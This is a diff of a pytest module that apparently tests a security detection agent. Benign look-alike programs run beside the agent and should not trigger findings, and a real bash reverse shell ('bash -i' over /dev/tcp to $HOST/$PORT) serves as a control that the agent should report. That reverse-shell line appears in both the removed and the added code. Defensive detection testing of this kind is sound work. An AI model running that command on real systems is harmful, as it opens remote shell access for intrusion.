@@ -3,28 +3,23 @@
 from __future__ import annotations
 
 import os
-import time
-from collections.abc import Iterator, Mapping
-from concurrent.futures import Future
+from collections.abc import Iterator
 from pathlib import Path
 
-import msgspec
 import pytest
 
 from benign.cases import ALL, Case
+from benign.session import SETTLE_S, Session, hold
 from live.account import Account
 from live.agent import LiveAgent, Reported, live_agent
-from live.campaign import chosen, lacking, run_all
 from live.channels import Transport
 from live.programs import Language, prepare, turn
-from live.shells import Outcome, Speech, control
+from live.shells import Speech, control
 from live.web import web_server
 from live.work import Done, work
 
-MEDIUM, HIGH = 3, 4
+HIGH = 4
 """OCSF severity_id."""
-SETTLE_S = 2.0
-"""Time in which an agent that was to say something would have said it."""
 BROKER = """
 [[detect.trusted_broker]]
 exe = "*/python*"
@@ -32,16 +27,6 @@ argv = ["*/trusted-broker/main.py"]
 """
 
 each_case = pytest.mark.parametrize("case", ALL, ids=lambda case: case.name)
-
-
-class Session(msgspec.Struct, frozen=True):
-    """What happened in this module."""
-
-    cases: Mapping[str, Future[Done]]
-    findings: list[Reported]
-    """Reported until then, at least of medium severity."""
-    control: Outcome
-    """A real shell afterwards."""
 
 
 @pytest.fixture(scope="module")
@@ -53,7 +38,7 @@ def agent(account: Account, folder: Path) -> Iterator[LiveAgent]:
 
 @pytest.fixture(scope="module")
 def session(request: pytest.FixtureRequest, account: Account, folder: Path, agent: LiveAgent) -> Session:
-    """All chosen cases, over; then one real shell."""
+    """All chosen cases, over."""
     with web_server() as web:
 
         def run(case: Case) -> Done:
@@ -61,19 +46,7 @@ def session(request: pytest.FixtureRequest, account: Account, folder: Path, agen
             with turn(case.language):
                 return work(account, folder / case.name, command, {"WEB": web}, case.expects)
 
-        cases = run_all(chosen(request, ALL), run)
-    time.sleep(SETTLE_S)
-    findings = [finding for finding in agent.findings() if finding.severity >= MEDIUM]
-    text = "exec bash -i <>/dev/tcp/$HOST/$PORT >&0 2>&0"
-    command = prepare(account, folder / "control", Language.BASH, text)
-    return Session(cases, findings, control(account, folder / "control", command, Transport.TCP, Speech.SH))
-
-
-def done_of(case: Case, session: Session) -> Done:
-    """Return what became of a case; skip the test where this machine lacks a program."""
-    if (reason := lacking(case)) is not None:
-        pytest.skip(reason)
-    return session.cases[case.name].result()
+        return hold(request, agent, ALL, run)
 
 
 def is_nobodys(finding: Reported, known: frozenset[int]) -> bool:
@@ -88,14 +61,14 @@ def is_nobodys(finding: Reported, known: frozenset[int]) -> bool:
 @each_case
 def test_case_is_real(case: Case, session: Session) -> None:
     """The program does its work to the end beside a watching agent."""
-    done = done_of(case, session)
+    done = session.of(case)
     assert done.done, done.said
 
 
 @each_case
 def test_look_alike_is_not_reported(case: Case, session: Session) -> None:
     """No finding from medium severity on names a process of ordinary work, or one of nobody's while it ran."""
-    done = done_of(case, session)
+    done = session.of(case)
     known = frozenset[int]().union(*(other.result().pids for other in session.cases.values() if not other.exception()))
     assert [
         finding
@@ -105,7 +78,10 @@ def test_look_alike_is_not_reported(case: Case, session: Session) -> None:
     ] == []
 
 
-def test_agent_was_watching(session: Session, agent: LiveAgent) -> None:
+def test_agent_was_watching(account: Account, folder: Path, session: Session, agent: LiveAgent) -> None:
     """The silence means something: the same agent reports a real shell that comes after all the look-alikes."""
-    assert session.control.proved, session.control.said
-    assert agent.wait_finding(session.control.pids, HIGH, SETTLE_S), agent.log()
+    text = "exec bash -i <>/dev/tcp/$HOST/$PORT >&0 2>&0"
+    command = prepare(account, folder / "control", Language.BASH, text)
+    shell = control(account, folder / "control", command, Transport.TCP, Speech.SH)
+    assert shell.proved, shell.said
+    assert agent.wait_finding(shell.pids, HIGH, SETTLE_S), agent.log()
